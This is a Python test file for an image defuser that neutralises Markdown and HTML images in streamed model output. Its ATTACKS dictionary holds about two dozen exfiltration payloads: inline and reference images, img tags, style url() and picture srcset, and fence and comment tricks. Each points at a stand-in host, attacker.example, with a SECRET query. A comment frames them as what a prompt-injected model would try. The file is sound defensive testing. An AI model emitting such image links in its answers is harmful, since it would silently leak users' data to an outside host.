"""The image defuser against a CommonMark renderer: whatever the model writes, and however
its deltas are cut, the rendered answer fetches nothing, and where no image was the text is
as the model wrote it."""

from __future__ import annotations

import random
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from hermes_acp.bridge.remote_images import ImageDefuser, defuse

URL = "https://attacker.example/p?d=SECRET"
ATTACKS = {
    "inline": f"see ![x]({URL}) now",
    "angle destination": f"![x](<{URL}>)",
    "title": f'![x]({URL} "t")',
    "reference": f"![x][1]\n\n[1]: {URL}\n",
    "shortcut, definition first": f"[x]: {URL}\n\n![x]",
    "definition in a list": f"![x][a]\n\n- > [a]: {URL}\n",
    "label over two lines": f"![x][a b]\n\n[a\nb]: {URL}\n",
    "nested": f"![a ![b]({URL}) c]({URL})",
    "inside a link": f"[![b]({URL})](https://x.example)",
    "code span in the alt": f"![a `]` b]({URL})",
    "escaped bracket": f"![a \\] b]({URL})",
    "img tag": f'text <img src="{URL}"> text',
    "img tag at a line's start": f'<img src="{URL}">',
    "style attribute": f'<span style="background:url({URL})">x</span>',
    "picture": f"<picture><source srcset={URL}></picture>",
    "comment hides a fence": f"<!--\n```\n-->\n![x]({URL})\n```",
    "html block hides a fence": f"<div>\n```\n\n![x]({URL})\n```",
    "fence with a backtick info": f"``` a`b\n![x]({URL})\n",
    "fence ended by its list": f"- a\n\n  ```\n  code\n![x]({URL})\n```",
    "fence too indented": f"    ```\n![x]({URL})\n",
    "unclosed fence then image": f"```\ncode\n```\n![x]({URL})",
    "carriage returns": f"![x]\r\r[x]: {URL}\r",
    "quoted > in a tag": f'a <div title=">" style="background:url({URL})">x</div>',
    "crlf fence then image": f"```\r\ncode\r\n```\r\n![x]({URL})",
}
PLAIN = {
    "rust in code": "Use `vec![1, 2]` or `Vec<String>`; a < b and c > d.",
    "code block": '```html\n<img src="logo.png">\n![x](https://a.example/x.png)\n```\n',
    "links": "[docs](https://docs.example) and <https://docs.example> and [a][b].",
    "emphasis": "Hello![world] **bold** _it_ <b>b</b> x<y and a>b",
    "an answer's last character": "Done!",
    "a lone exclamation mark": "!",
}


def rendered_fetches(markdown: str) -> bool:
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
    return "attacker.example" in html and any(
        f"<{tag}" in html for tag in ("img", "source", "span", "picture", "div")
    )


def streamed(text: str, size: int) -> str:
    defuser = ImageDefuser()
    parts = [defuser.feed(text[i : i + size]) for i in range(0, len(text), size)]
    return "".join(parts) + defuser.flush()


@pytest.mark.parametrize("case", list(ATTACKS))
def test_no_attack_renders_a_fetch_however_it_is_cut(case: str) -> None:
    text = ATTACKS[case]
    assert rendered_fetches(text), "the attack must work undefused"
    for size in (1, 2, 3, 7, len(text)):
        assert not rendered_fetches(streamed(text, size)), (size, streamed(text, size))


@pytest.mark.parametrize("case", list(PLAIN))
def test_text_without_images_is_left_as_it_is(case: str) -> None:
    text = PLAIN[case]
    for size in (1, 3, len(text)):
        assert streamed(text, size) == defuse(text)
    assert defuse(text) == text


def test_only_what_may_start_an_image_is_held_back() -> None:
    defuser = ImageDefuser()
    assert defuser.feed("plain words, ") == "plain words, "
    assert defuser.feed("then ![a") == "then "  # the `!` may start an image
    assert defuser.feed("lt") == ""
    assert defuser.feed("](") == "!\\[alt]("  # decided: an image, shown as its text
    assert defuser.feed("https://x)") == "https://x)"
    assert defuser.feed(" and more") == " and more"


@pytest.mark.parametrize("next_turn", [False, True])
def test_a_final_exclamation_mark_goes_out_as_it_is_and_a_bracket_after_it_is_escaped(
    next_turn: bool,
) -> None:
    # "Done!" reached the editor as `Done\!`. Now the `[` let out right after a flushed
    # `!` (in the same stream, or first thing in the next turn's answer, which a client
    # may append to this one) is escaped instead, so no reading joins them into an image.
    defuser = ImageDefuser()
    assert defuser.feed("Done!") == "Done"  # held: `[` may follow
    sent = defuser.flush()
    assert sent == "!"
    if next_turn:
        defuser = defuser.next_message()
    assert defuser.feed("") == ""  # nothing let out yet: still remembered
    after = defuser.feed(f"[x]({URL}) and [y]") + defuser.flush()
    assert after == f"\\[x]({URL}) and [y]"
    assert rendered_fetches(f"Done![x]({URL})") and not rendered_fetches("Done" + sent + after)


class _Fetches(HTMLParser):
    """Any element (a link aside) with an attribute naming the attacker: what would load."""

    def __init__(self) -> None:
        super().__init__()
        self.found = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "a" and any(v and "attacker.example" in v for k, v in attrs if k != "class"):
            self.found = True


PIECES = [
    *ATTACKS.values(),
    *("![", "](", URL, ")", "[", "]", "[x]: ", "`", "```", "~~~", "\n", "\n\n", "\r", "\r\n"),
    *("    ", " ", "> ", "- ", "1. ", "<", ">", "<div>", "<!--", "-->", "\\", "!", "x", "\t", ":", "'"),
    *('"', "(", "[^1]: ", "|", "<https://a.example>", "&#33;", "![![x](" + URL + ")"),
]


def test_random_mixtures_of_the_pieces_render_no_fetch() -> None:
    # Nested and cut-short constructs, split anywhere: what a prompt-injected model would
    # try next. Seeded: the same mixtures every run.
    rng = random.Random(15)
    renderer = MarkdownIt("commonmark", {"html": True})
    for _ in range(4000):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 12)))
        size = rng.randint(1, 6)
        for out in (defuse(text), streamed(text, size)):
            parser = _Fetches()
            parser.feed(renderer.render(out))
            assert not parser.found, (text, size, out)


def test_flushed_anywhere_no_reading_of_the_pieces_fetches() -> None:
    # Something else sent between two deltas (a thought, a tool call) flushes the stream:
    # one client starts a new block there, another appends to the last. Under both readings
    # nothing may load: a trailing `!` before `[x](u)`, a trailing `\` before our `\<`, a
    # fence opened on one side of the cut and closed on the other.
    rng = random.Random(1515)
    renderer = MarkdownIt("commonmark", {"html": True})

    def fetches(markdown: str) -> bool:
        parser = _Fetches()
        parser.feed(renderer.render(markdown))
        return parser.found

    for _ in range(2000):
        parts = [rng.choice(PIECES) for _ in range(rng.randint(1, 12))]
        defuser = ImageDefuser()
        blocks = [""]
        for part in parts:
            blocks[-1] += defuser.feed(part)
            if rng.random() < 0.3:
                blocks[-1] += defuser.flush()
                blocks.append("")
        blocks[-1] += defuser.flush()
        assert not fetches("".join(blocks)), parts
        assert not any(fetches(block) for block in blocks), parts
